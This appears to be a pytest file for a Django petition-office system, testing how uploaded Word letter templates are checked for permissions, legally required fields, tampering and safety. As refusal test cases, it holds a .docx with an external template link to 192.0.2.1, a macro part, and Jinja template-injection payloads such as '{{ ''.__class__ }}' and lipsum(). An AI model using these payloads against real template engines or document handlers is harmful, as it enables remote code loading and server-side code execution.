"""An organ brings its own Word template: what is taken, what is refused and why, and what letters then look like."""

from __future__ import annotations

import pytest
from django.core.exceptions import PermissionDenied

from huiyin.ledger import queries as ledger
from huiyin.letters import acts, files, queries
from huiyin.letters.acts.keeping import left_out, lint
from huiyin.letters.kinds import KINDS
from huiyin.letters.models import LetterTemplate
from huiyin.letters.problems import Damaged, LetterRefused, NotPrinted, TemplateKnown, TemplateNotTaken
from huiyin.letters.tests.office import AT, TODAY, Office, now, set_up
from huiyin.letters.tests.wordfiles import lines, part, plain, reworded, shipped, with_part


@pytest.fixture
def office(db: None) -> Office:
    return set_up()


def put(office: Office, kind: str, data: bytes) -> LetterTemplate:
    return acts.replace_template(
        office.bureau, kind, data, name="我局格式.docx", person=office.admin, at=AT, today=TODAY
    )


@pytest.mark.parametrize("kind", KINDS)
def test_every_shipped_template_passes_its_own_linter(kind: str) -> None:
    assert lint(KINDS[kind], shipped(kind)) == []
    assert left_out(KINDS[kind], shipped(kind)) == []


def test_the_wording_of_an_organ_is_used_from_then_on(office: Office) -> None:
    template = put(office, "direct_reply", reworded("direct_reply", "感谢", "再次感谢"))
    letter = now("direct_reply", office.bureau, office.clerk)
    assert "再次感谢你对我们工作的理解和支持。" in lines(queries.document(letter))
    assert letter.template_digest == template.digest
    acts.retire_template(template, person=office.admin, at=AT, today=TODAY)
    assert "感谢你对我们工作的理解和支持。" in lines(queries.document(now("direct_reply", office.bureau, office.clerk)))
    stream = f"letter_template:{office.bureau.pk}:direct_reply"
    told = [event["event"] for entry in ledger.entries([stream])[stream] for event in entry.events]
    assert told == ["letter_template.put", "letter_template.retired"]


def test_another_organ_keeps_the_shipped_one(office: Office) -> None:
    put(office, "direct_reply", reworded("direct_reply", "感谢", "再次感谢"))
    assert queries.current_template(office.housing, "direct_reply") is None


def test_the_same_file_twice_is_one_version(office: Office) -> None:
    data = reworded("direct_reply", "感谢", "再次感谢")
    put(office, "direct_reply", data)
    with pytest.raises(TemplateKnown, match="第 1 版"):
        put(office, "direct_reply", data)


def test_who_keeps_templates(office: Office) -> None:
    data = reworded("opinion", "现已办结", "现已办理完毕")
    for person in (office.leader, office.clerk, office.housing_head):
        with pytest.raises(PermissionDenied):
            acts.replace_template(office.bureau, "opinion", data, name="a", person=person, at=AT, today=TODAY)
    for person in (office.admin, office.housing_officer):
        with pytest.raises(PermissionDenied, match="负责人"):
            acts.replace_template(office.housing, "opinion", data, name="a", person=person, at=AT, today=TODAY)
    acts.replace_template(office.housing, "opinion", data, name="a", person=office.housing_head, at=AT, today=TODAY)


def test_a_name_that_does_not_exist_is_told_with_its_place_and_remedy(office: Office) -> None:
    with pytest.raises(TemplateNotTaken) as refused:
        put(office, "direct_reply", reworded("direct_reply", "{{ 段 | 句号 }}", "{{ 答复内客 }}"))
    (trap, *_rest) = refused.value.traps
    assert "答复内客" in trap.message
    assert "答复内容" in trap.message + trap.remedy
    assert "第" in trap.place
    assert not LetterTemplate.objects.exists()


def test_what_the_law_wants_must_be_printed(office: Office) -> None:
    """The right to review, with organ and last day, always."""
    with pytest.raises(TemplateNotTaken, match="复查期限") as refused:
        put(office, "opinion", reworded("opinion", "，最后一日为{{ 复查期限 }}", ""))
    assert refused.value.unprinted == (("复查期限", "《信访工作条例》第三十五条"),)


def test_a_transfer_letter_must_be_able_to_demand_secrecy(office: Office) -> None:
    """An accusation must not reach the accused: an organ's own wording says so too, or goes out with no accusation."""
    with pytest.raises(TemplateNotTaken, match="保密要求") as refused:
        put(office, "transfer", reworded("transfer", "{{ 段 | 句号 }}", "{{ 办理要求 }}{{ 诉求 }}"))
    assert ("保密要求", "《信访工作条例》第三十条第三款") in refused.value.unprinted


def test_printing_it_only_sometimes_is_not_enough(office: Office) -> None:
    sometimes = "{% if 联系人 %}，最后一日为{{ 复查期限 }}{% endif %}"
    with pytest.raises(TemplateNotTaken, match="复查期限"):
        put(office, "opinion", reworded("opinion", "，最后一日为{{ 复查期限 }}", sometimes))
    with pytest.raises(TemplateNotTaken, match="文号"):
        put(office, "opinion", reworded("opinion", "{{ 文号 }}", "号"))


def test_a_template_that_leaves_it_out_of_one_letter_issues_nothing(office: Office) -> None:
    """What no trial could show is found when the letter is made: its words are looked for in it."""
    sly = "{% if 信访形式 != '来访' %}{{ 答复内容 }}{% endif %}"
    put(
        office, "direct_reply", plain("{{ 发文机关 }}{{ 文号 }}", "{{ 信访人 }}：", "{{ 诉求 }}", sly, "{{ 成文日期 }}")
    )
    with pytest.raises(NotPrinted, match="答复内容"):
        now("direct_reply", office.bureau, office.clerk)
    assert now("direct_reply", office.bureau, office.clerk, 信访形式="来电").number == "望信答〔2026〕1号"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not a word file",
        with_part(shipped("direct_reply"), "word/vbaProject.bin", b"macro"),
        with_part(
            shipped("direct_reply"),
            "word/_rels/document.xml.rels",
            part(shipped("direct_reply"), "word/_rels/document.xml.rels").replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" TargetMode="External" Target="http://192.0.2.1/a.dotm" '
                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
                b"</Relationships>",
            ),
        ),
    ],
)
def test_a_file_that_could_do_harm_is_refused(data: bytes, office: Office) -> None:
    with pytest.raises(TemplateNotTaken) as refused:
        put(office, "direct_reply", data)
    assert refused.value.traps


@pytest.mark.parametrize(
    "text",
    [
        "{{ 信访人.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{% for 甲 in 诉求 %}{% for 乙 in 诉求 %}{{ 甲 }}{% endfor %}",
        "{{ lipsum() }}",
        "{{ 信访人 * 100000 }}",
        "{% include 'x' %}",
    ],
)
def test_a_template_that_reaches_further_is_refused(text: str, office: Office) -> None:
    with pytest.raises(TemplateNotTaken):
        put(office, "direct_reply", reworded("direct_reply", "感谢", text))


def test_what_a_petitioner_writes_is_never_run(office: Office) -> None:
    ask = "{{ 7 * 7 }}{% for x in y %}\n<w:p>尖括号</w:p>&amp;"
    letter = now("direct_reply", office.bureau, office.clerk, 诉求=ask)
    text = lines(queries.document(letter))
    assert "{{ 7 * 7 }}{% for x in y %}" in text
    assert "<w:p>尖括号</w:p>&amp;" in text or "<w:p>尖括号</w:p>&amp;。" in text


def test_a_template_changed_on_disk_issues_nothing(office: Office) -> None:
    template = put(office, "direct_reply", reworded("direct_reply", "感谢", "再次感谢"))
    path = files.template_path(template.digest)
    path.write_bytes(path.read_bytes() + b"x")
    with pytest.raises(Damaged, match="第 1 版"):
        now("direct_reply", office.bureau, office.clerk)
    path.unlink()
    with pytest.raises(Damaged, match="停用这一版"):
        now("direct_reply", office.bureau, office.clerk)


def test_chains_are_in_order(office: Office) -> None:
    for steps in (["sign", "check"], ["check", "check"], ["approve"]):
        with pytest.raises(LetterRefused, match="核稿在签发之前"):
            acts.set_chain(office.bureau, "transfer", steps, person=office.admin, at=AT, today=TODAY)
